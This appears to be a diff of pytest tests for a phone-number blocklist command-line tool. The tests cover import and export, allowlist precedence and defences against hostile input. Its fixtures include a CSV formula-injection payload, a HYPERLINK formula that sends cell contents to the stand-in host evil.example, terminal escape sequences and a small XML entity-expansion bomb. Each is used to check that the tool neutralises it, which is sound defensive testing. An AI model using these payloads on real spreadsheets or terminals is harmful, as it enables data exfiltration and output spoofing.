@@ -2,12 +2,15 @@
 
 from __future__ import annotations
 
+import csv
+import io
 import json
 from pathlib import Path
 
 import pytest
 from typer.testing import CliRunner
 
+from lookup.blocklists import FORMATS, read_entries
 from lookup.cli import app
 
 SAMPLES = Path(__file__).parents[1] / "blocklists" / "data"
@@ -80,7 +83,7 @@ def test_import_never_blocks_own_or_allowlisted_numbers(tmp_path) -> None:
     r = run("import", str(lst), "--config", str(cfg))
     assert r.exit_code == 0
     assert listed() == {"+14155550102"}
-    assert "not blocked: 2 number(s)" in r.stderr and "skipped 1 line" in r.stderr
+    assert "not blocked: 2 number(s)" in r.stderr and "skipped 1 row (line 4: not a phone number" in r.stderr
 
 
 def test_bad_files_are_one_line_errors(tmp_path) -> None:
@@ -88,10 +91,13 @@ def test_bad_files_are_one_line_errors(tmp_path) -> None:
     bomb.write_text('<?xml version="1.0"?><!DOCTYPE p [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;&a;&a;">]>'
                     "<phonebooks><phonebook><contact><telephony><number>&b;</number></telephony></contact></phonebook></phonebooks>")
     for args in (["import", str(bomb), "--format", "fritzbox"], ["import", str(tmp_path / "missing.txt")],
-                 ["export", "-f", "txt", "--include", "everything"], ["import", str(bomb), "--format", "nosuch"]):
+                 ["export", "-f", "txt", "--include", "everything"]):
         r = run(*args)
         assert r.exit_code == 2, (args, r.output)
         assert len(r.stderr.strip().splitlines()) == 1
+    # an unknown format is a usage error of the option's choices (the registry's enum)
+    r = run("import", str(bomb), "--format", "nosuch")
+    assert r.exit_code == 2 and "nosuch" in r.stderr and "contacts_vcard" in r.stderr
 
 
 def test_reports_for_the_ftc() -> None:
@@ -145,3 +151,112 @@ def test_sync_usage_errors() -> None:
     assert run("sync", "ftc", "/nonexistent.csv").exit_code == 2
     r = run("sync", "fcc", "--since", "last week")
     assert r.exit_code == 2 and "--since: not a date" in r.stderr
+
+
+# ---------------------------------------------------------------- hostile text (issue 20 items 2, 3)
+
+FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Click me")'
+CSV_LIKE = [spec.name for spec in FORMATS.values() if spec.writer and spec.media_type == "text/csv"]
+
+
+@pytest.mark.parametrize("fmt", CSV_LIKE)
+def test_a_formula_from_a_friends_list_is_neutralised_on_export(fmt: str, tmp_path) -> None:
+    friend = tmp_path / "friend.csv"
+    friend.write_text(f'number,description,verdict,score,added_at\n+12025550123,"{FORMULA.replace(chr(34), chr(34) * 2)}",,,\n'
+                      "+12025550124,@SUM(A1:A9),,,\n+12025550125,-2+3,,,\n")
+    assert run("import", str(friend)).exit_code == 0
+    out = tmp_path / f"out.{fmt}"
+    assert run("export", "-f", fmt, "-o", str(out)).exit_code == 0
+    records = list(csv.reader(out.open(newline="")))[1:]
+    numbers = {"+12025550123", "+12025550124", "+12025550125"}
+    assert {cell for record in records for cell in record if cell in numbers or "+" + cell in numbers} == (
+        numbers if fmt != "spamblocker" else {n[1:] for n in numbers}
+    )
+    texts = [cell for record in records for cell in record if "HYPERLINK" in cell or "SUM" in cell or "2+3" in cell]
+    assert len(texts) == 3 and all(cell.startswith("'") for cell in texts), texts
+
+
+def test_triage_csv_neutralises_names(tmp_path) -> None:
+    log = tmp_path / "calls.xml"
+    name = FORMULA.replace('"', "&quot;").replace("&A1", "&amp;A1")
+    log.write_text(
+        "<?xml version='1.0' encoding='UTF-8' standalone='yes' ?>\n<calls count=\"1\">\n"
+        f'<call number="+12025550123" duration="0" date="1709622843000" type="3" presentation="1" contact_name="{name}" />\n'
+        "</calls>\n"
+    )
+    r = run("triage", str(log), "--offline", "--csv")
+    assert r.exit_code == 0, r.output
+    [row] = list(csv.DictReader(io.StringIO(r.stdout)))
+    assert row["number"] == "+12025550123"
+    assert row["name"] == "'" + FORMULA and not row["top_reason"].startswith(("=", "+", "-", "@"))
+
+
+ESCAPES = "\x1b]0;pwned\x07\x1b[2J"
+
+
+def test_lists_and_reports_never_print_terminal_escapes(tmp_path) -> None:
+    assert run("block", "+12025550123", "--reason", f"{ESCAPES}typed").exit_code == 0
+    friend = tmp_path / "friend.csv"
+    friend.write_text(f"number,description\n2025550124,{ESCAPES}imported\n")
+    assert run("import", str(friend), "--format", "freepbx").exit_code == 0
+    assert run("report", "+12025550125", "-c", "robocall", "--note", f"{ESCAPES}noted").exit_code == 0
+    shown = run("lists").stdout + run("reports").stdout + run("lists", "--json").stdout
+    assert "typed" in shown and "imported" in shown and "noted" in shown
+    assert "\x1b" not in shown and "\x07" not in shown
+
+
+# ---------------------------------------------------------------- the allowlist wins (issue 19 item 1)
+
+
+def test_export_leaves_out_numbers_an_allowed_range_covers() -> None:
+    assert run("allow", "+1415555*").exit_code == 0
+    assert run("block", "415-555-0199", "--force").exit_code == 0
+    r = run("export", "-f", "txt")
+    assert r.exit_code == 0 and "+14155550199" not in r.stdout
+    assert "left out 1 entry that your allowlist covers" in r.stderr
+    assert json.loads(run("lookup", "+14155550199", "--offline", "--json").stdout)["verdict"] == "allowed"
+
+
+@pytest.mark.parametrize("fmt", ["ncid", "txt", "callblocker", "freepbx"])
+def test_a_blocked_range_around_an_allowed_range_is_exported_in_pieces(fmt: str, tmp_path) -> None:
+    assert run("allow", "+1415555*").exit_code == 0
+    assert run("block", "+1415*").exit_code == 0
+    out = tmp_path / f"list.{fmt}"
+    r = run("export", "-f", fmt, "-o", str(out))
+    assert r.exit_code == 0 and "wrote 1 blocked range without the allowlisted numbers" in r.stderr
+    assert "^1?415\n" not in out.read_text() and "^1?415 " not in out.read_text()
+    patterns = {entry.pattern for entry in read_entries(out, fmt)} if fmt != "freepbx" else set()
+    if fmt == "freepbx":  # no prefixes: the pieces are skipped and counted, never the whole range
+        assert "skipped 27 prefix ranges" in r.stderr
+        return
+    assert "+1415*" not in patterns and len(patterns) == 27
+    blocked = [p.rstrip("*") for p in patterns]
+    assert not any(b.startswith("+1415555") or "+14155550199".startswith(b) for b in blocked)
+    assert any("+14151234567".startswith(b) for b in blocked) and any("+14155560000".startswith(b) for b in blocked)
+
+
+# ---------------------------------------------------------------- a file that yields nothing (issue 19 item 10)
+
+
+def test_a_file_that_yields_nothing_is_refused_and_nothing_is_stored(tmp_path) -> None:
+    assert run("block", "+12025550100").exit_code == 0
+    numbers = tmp_path / "numbers.txt"
+    numbers.write_text("+12025550123\n+12025550124\n")
+    r = run("import", "--format", "vcard", str(numbers))
+    assert r.exit_code == 2 and r.stdout == ""
+    [line] = r.stderr.strip().splitlines()
+    assert "numbers.txt" in line and "vcard" in line
+    assert listed() == {"+12025550100"}
+    empty = tmp_path / "empty.json"
+    empty.write_text('{"entries": []}')
+    r = run("import", str(empty))
+    assert r.exit_code == 2 and "empty.json" in r.stderr and "json" in r.stderr
+
+
+def test_import_never_blocks_a_number_an_allowed_range_covers(tmp_path) -> None:
+    assert run("allow", "+1415555*").exit_code == 0
+    friend = tmp_path / "friend.txt"
+    friend.write_text("+14155550199\n+14165550199\n")
+    r = run("import", str(friend))
+    assert r.exit_code == 0 and "not blocked: 1 number(s)" in r.stderr
+    assert listed() == {"+14165550199"}
